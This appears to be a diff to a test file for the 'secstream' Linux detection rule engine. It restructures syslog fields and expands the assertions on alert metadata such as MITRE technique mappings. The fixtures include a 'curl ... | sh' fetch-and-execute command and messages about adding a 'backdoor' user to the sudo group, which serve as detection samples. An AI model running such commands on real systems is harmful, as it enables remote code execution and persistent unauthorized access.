@@ -54,7 +54,6 @@ SYSLOG_CASES: dict[str, tuple[str, str]] = {
 
 def _auditd_doc(command: str, **extra: Any) -> dict[str, Any]:
     return {
-        "schema_version": "1.0",
         "@timestamp": "2019-07-10T15:13:25.000Z",
         "event": {"id": "a" * 32, "kind": "event", "module": "auditd", "action": "execve"},
         "host": {"name": "h"},
@@ -66,12 +65,11 @@ def _auditd_doc(command: str, **extra: Any) -> dict[str, Any]:
 
 def _syslog_doc(command: str) -> dict[str, Any]:
     return {
-        "schema_version": "1.0",
         "@timestamp": "2019-07-10T15:13:25.000Z",
         "message": f"peteb : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}",
         "event": {"id": "b" * 32, "kind": "event", "module": "syslog", "action": "sudo_command"},
         "host": {"name": "h"},
-        "syslog": {"command": command},
+        "secstream": {"syslog": {"command": command}},
     }
 
 
@@ -105,7 +103,7 @@ class TestDefaultRules:
         """useradd and usermod syslog messages trigger the account and sudoers rules."""
         engine = RuleEngine(DEFAULT.values())
         doc = _syslog_doc("x")
-        del doc["syslog"]
+        del doc["secstream"]["syslog"]
         doc["message"] = "new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash"
         assert [d["rule"]["id"] for d in engine.match(doc)] == ["SS-LNX-011"]
         doc["message"] = "add 'backdoor' to group 'sudo'"
@@ -174,9 +172,24 @@ class TestEngine:
         doc = _auditd_doc("curl http://198.51.100.9/x | sh", secstream={"iocs": {"url": ["http://198.51.100.9/x"]}})
         (hit,) = RuleEngine([DEFAULT["SS-LNX-001"]]).match(doc)
         DETECTIONS.validate(hit)
-        assert hit["rule"] == {"id": "SS-LNX-001", "name": "Download piped to a shell", "version": "1"}
-        assert hit["event"]["severity"] == 73
-        assert hit["threat"]["technique"]["id"] == ["T1105", "T1059.004"]
+        assert hit["rule"] == {
+            "id": "SS-LNX-001",
+            "name": "Download piped to a shell",
+            "version": "1",
+            "description": DEFAULT["SS-LNX-001"].description,
+            "ruleset": "secstream",
+        }
+        assert hit["event"]["severity"] == 73 and hit["event"]["risk_score"] == 73.0
+        assert hit["event"]["category"] == ["intrusion_detection"] and hit["event"]["dataset"] == "secstream.alert"
+        technique = hit["threat"]["technique"]
+        assert technique["id"] == ["T1105", "T1059"]
+        assert technique["name"] == ["Ingress Tool Transfer", "Command and Scripting Interpreter"]
+        assert technique["subtechnique"] == {
+            "id": ["T1059.004"],
+            "name": ["Unix Shell"],
+            "reference": ["https://attack.mitre.org/techniques/T1059/004/"],
+        }
+        assert hit["threat"]["tactic"]["name"] == ["Command and Control", "Execution"]
         assert hit["secstream"]["evidence"]["event_ids"] == ["a" * 32]
         assert hit["process"]["parent"]["name"] == "bash"
         assert hit["secstream"]["iocs"] == {"url": ["http://198.51.100.9/x"]}
@@ -260,8 +273,7 @@ class TestEngineOnePass:
             "host": {"name": "h"},
             "process": {"command_line": command},
             "message": message,
-            "syslog": {"command": syslog_command},
-            "secstream": {"decoded": [{"text": text} for text in layers]},
+            "secstream": {"syslog": {"command": syslog_command}, "decoded": [{"text": text} for text in layers]},
         }
         engine = RuleEngine(MIXED_RULES)
         got = [
